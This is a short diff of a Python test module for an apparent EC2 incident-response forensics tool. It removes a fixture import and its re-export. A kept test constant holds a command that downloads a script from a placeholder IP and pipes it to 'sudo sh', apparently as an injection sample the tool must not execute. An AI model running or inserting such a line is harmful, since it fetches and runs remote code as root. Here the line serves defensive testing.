@@ -15,11 +15,9 @@ from ec2ir.core.models import EvidenceRef, JournalEntry
 from ec2ir.evidence.forensics import attach, detach, mount_commands, render_attach
 from ec2ir.evidence.snapshots import TAG_CASE, TAG_DEVICE, TAG_INSTANCE
 from ec2ir.store.items import now
-from tests.support.forensic_scene import ACTOR, CASE, Scene, scene, zone_of
+from tests.support.forensic_scene import ACTOR, CASE, Scene, zone_of
 
 pytestmark = pytest.mark.evidence  # about evidence: its runs collect it
-
-__all__ = ["scene"]  # the fixture, shared with test_forensics
 
 INJECTED = "curl -s http://203.0.113.9/x | sudo sh"
 # EC2 answers in XML, which cannot carry ESC, BEL or backspace; a C1 CSI (ESC [ in one byte, acted
